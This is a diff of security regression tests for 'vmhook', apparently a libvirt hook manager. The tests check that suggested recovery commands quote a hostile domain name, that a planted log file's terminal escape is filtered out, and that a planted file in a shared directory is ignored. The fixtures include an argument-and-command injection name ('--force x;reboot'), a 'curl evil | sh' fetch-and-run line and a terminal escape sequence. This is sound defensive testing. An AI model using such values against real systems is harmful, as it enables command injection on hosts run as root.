@@ -21,6 +21,8 @@ import { runHookEvent } from "../helpers/hook.ts";
 import { HugepageKernel } from "../helpers/hugepage-kernel.ts";
 import { SimHost } from "../helpers/simhost.ts";
 import { cli } from "../helpers/cli.ts";
+import { runDoctor } from "../../lib/diagnostics/doctor.ts";
+import { fakeLibvirt } from "../helpers/fake-virsh.ts";
 
 const UUID = "e1e1e1e1-0000-4000-8000-0000000000e1";
 const XML = `<domain type='kvm'><name>vm</name><uuid>${UUID}</uuid><memory unit='GiB'>1</memory>
@@ -28,8 +30,8 @@ const XML = `<domain type='kvm'><name>vm</name><uuid>${UUID}</uuid><memory unit=
   <metadata><vmhook:hooks xmlns:vmhook="urn:vmhook:1"><vmhook:hugepages/></vmhook:hooks></metadata></domain>`;
 
 /** A journal left by a crashed run, holding one change of `plugin`. */
-function leftover(sim: SimHost, plugin: string, undo: UndoRecord): void {
-  const journal = newJournal(sim, { name: "vm", uuid: UUID });
+function leftover(sim: SimHost, plugin: string, undo: UndoRecord, name = "vm"): void {
+  const journal = newJournal(sim, { name, uuid: UUID });
   journal.entries.push({ plugin, event: "prepare", description: "a change", undo, state: "applied", at: new Date().toISOString() });
   writeJournal(sim, journal);
 }
@@ -54,6 +56,33 @@ test("prepare: undoing a leftover journal counts against the work deadline (the 
     assert.is(outcome.stderr.split("\n")[0], "vmhook: an earlier run of vm left changes that cannot be undone; run vmhook recover vm and check vmhook status");
     assert.match(outcome.stderr, `vmhook ran out of time (deadline 0 s) while undoing slowly; raise "deadlineSeconds"`);
     assert.is(kernel.pool(2048), 0, "nothing new was taken");
+  } finally {
+    sim.cleanup();
+  }
+});
+
+test("a command vmhook suggests for a domain takes its name, which whoever defined the domain chose, as one argument: pasted, '--force x;reboot' is neither an option nor a second command", async () => {
+  const sim = new SimHost().dir("/var/log");
+  const name = "--force x;reboot";
+  const recover = "vmhook recover -- '--force x;reboot'";
+  const leftovers = async () => (await runDoctor(sim)).host.find((finding) => finding.check === "leftovers")?.fix;
+  try {
+    installSlowPlugin(sim);
+    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 0.3, undoDeadlineSeconds: 0.3 }));
+    leftover(sim, "plugin:slow", { action: "wait" }, name);
+    writeJournal(sim, { ...readJournal(sim, UUID)!, phase: "starting" });
+    const force = "if virsh domstate -- '--force x;reboot' says shut off and no start is under way, run vmhook recover --force -- '--force x;reboot'";
+    assert.match((await cli(["recover", "--root", sim.root])).stdout, `nothing of it was undone: ${force}\n`);
+    assert.is(await leftovers(), force);
+
+    const xml = XML.replace("<name>vm</name>", `<name>${name}</name>`);
+    assert.match((await runHookEvent(sim, "prepare", "begin", xml, name)).stderr.split("\n")[0]!, `; run ${recover} and check vmhook status`);
+    assert.match((await runHookEvent(sim, "release", "end", xml, name)).stderr.split("\n")[0]!, `; see /var/log/vmhook.log, then run ${recover}`);
+    assert.match((await cli(["status", "--root", sim.root])).stdout, `(${recover} gives it back)`);
+    assert.is(await leftovers(), `fix the cause, then run ${recover}`);
+    // As suggested, it gives back this domain's changes.
+    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 60, undoDeadlineSeconds: 60 }));
+    assert.is((await cli(["recover", "--root", sim.root, "--", name])).stdout, `${name}: 1 change(s) undone\n`);
   } finally {
     sim.cleanup();
   }
@@ -210,6 +239,39 @@ test("a symlink, hard link or another user's file at /var/log/vmhook.log (a grou
     assert.is(fs.readFileSync(sim.resolve(paths.log), "utf8"), "");
   } finally {
     sim.cleanup();
+  }
+});
+
+test("vmhook hook reads what the hook logged only from vmhook's own log: a symlink or another user's file at /var/log/vmhook.log, growing meanwhile, never reaches root's terminal", async () => {
+  const root = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-hook-log-"));
+  try {
+    fs.mkdirSync(path.join(root, "var/log"), { recursive: true });
+    const feed = path.join(root, "home/alice/feed");
+    fs.mkdirSync(path.dirname(feed), { recursive: true });
+    fs.writeFileSync(feed, "");
+    const plants = {
+      symlink: () => fs.symlinkSync(feed, path.join(root, paths.log)),
+      "another user's file": () => {
+        fs.writeFileSync(path.join(root, paths.log), "");
+        fs.chownSync(path.join(root, paths.log), 1000, 1000);
+      },
+    };
+    for (const [plant, make] of Object.entries(plants)) {
+      fs.rmSync(path.join(root, paths.log), { force: true });
+      make();
+      // While the event runs, the planted file grows (through the link, the file it names): a terminal escape and what the user wants root to see.
+      const grows = async () => {
+        fs.appendFileSync(path.join(root, paths.log), "\u001b]0;owned\u0007 run: curl evil | sh\n");
+        return 0;
+      };
+      const outcome = await cli(["hook", "vm", "prepare", "begin", "--root", root], undefined, grows);
+      assert.is(outcome.code, 0, plant);
+      assert.not.match(outcome.stderr, "curl evil", plant);
+      assert.not.match(outcome.stderr, "\u001b", plant);
+      assert.match(outcome.stderr, `${paths.log} is `, plant);
+    }
+  } finally {
+    fs.rmSync(root, { recursive: true, force: true });
   }
 });
 
@@ -372,6 +434,32 @@ test("RootedHost finds a program in the first directory of the search path where
     assert.match(host.exec("tool", [], { timeoutMs: 5000 }).error!, "tool: not found");
   } finally {
     fs.rmSync(root, { recursive: true, force: true });
+  }
+});
+
+test("sudo vmhook validate/plan/doctor NAME in a directory others write reads libvirt's domain NAME, never a file of that name planted there", async () => {
+  const cwd = process.cwd();
+  const here = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-shared-cwd-"));
+  const libvirt = fakeLibvirt("vm", XML.replace("<metadata>", "<description>libvirt's</description><metadata>"));
+  const sim = new SimHost();
+  try {
+    // Another user's file where root runs the command: a domain without vmhook's metadata, said to be fine.
+    fs.writeFileSync(path.join(here, "vm"), XML.replace(/<metadata>.*<\/metadata>/s, "").replace("<name>vm</name>", "<name>planted</name>"));
+    process.chdir(here);
+    for (const command of ["validate", "plan", "doctor"]) {
+      const outcome = await cli([command, "--json", "vm", "--root", sim.root]);
+      assert.not.match(outcome.stdout + outcome.stderr, "planted", command);
+      assert.ok(libvirt.calls().some((call) => call.includes("dumpxml") && call.at(-1) === "vm"), command);
+    }
+    // A file is still read when the argument says so; a name libvirt does not know says how.
+    assert.match((await cli(["validate", "./vm", "--root", sim.root])).stdout, "./vm: ok; planted has no vmhook metadata");
+    fs.renameSync("vm", "other");
+    assert.match((await cli(["validate", "other", "--root", sim.root])).stderr, "\n  to read the file other here instead, write ./other\n");
+  } finally {
+    process.chdir(cwd);
+    libvirt.cleanup();
+    sim.cleanup();
+    fs.rmSync(here, { recursive: true, force: true });
   }
 });
 
